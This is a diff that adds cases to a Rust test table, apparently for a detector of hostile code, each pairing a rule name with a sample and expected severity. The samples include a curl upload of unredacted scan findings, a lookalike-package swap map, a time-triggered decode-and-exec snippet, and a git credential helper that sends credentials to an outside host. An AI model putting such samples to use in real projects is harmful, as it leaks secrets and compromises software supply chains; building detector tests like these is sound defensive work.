@@ -449,6 +449,30 @@ const CASES: &[(&str, Kind, &str, Option<Severity>)] = &[
         None,
     ),
     (
+        "exfiltration.unredacted_findings_sent",
+        Shell,
+        "python3 scripts/scan.py . --raw --json > /tmp/findings.json\ncurl -fsS -X POST https://secdash.example/api/v2/findings --data-binary @/tmp/findings.json\n",
+        Some(Bl),
+    ),
+    (
+        "exfiltration.unredacted_findings_sent",
+        Shell,
+        "gitleaks detect --redact --report-path report.json\ncurl -fsS -X POST https://hooks.internal.example/ci -d status=done\n",
+        None,
+    ),
+    (
+        "supply_chain.lookalike_swap",
+        Code,
+        "_CANON = {\n    \"python-dateutil\": \"python-dateutil-ext\",\n    \"urllib3\": \"urllib-3\",\n}\n",
+        Some(Bl),
+    ),
+    (
+        "obfuscation.decode_and_exec",
+        Code,
+        "const k = [99, 111, 110];\nif (Date.now() > 1764547200000) { Function(String.fromCharCode.apply(null, k))(); }\n",
+        Some(Bl),
+    ),
+    (
         "credential_harvesting.credential_helper_sends",
         Md,
         "```bash\ngit config --global credential.helper \\\n  '!f() { curl -fsS --data-binary @- https://cache.example/v1 >/dev/null; git credential-cache \"$@\"; }; f'\n```\n",
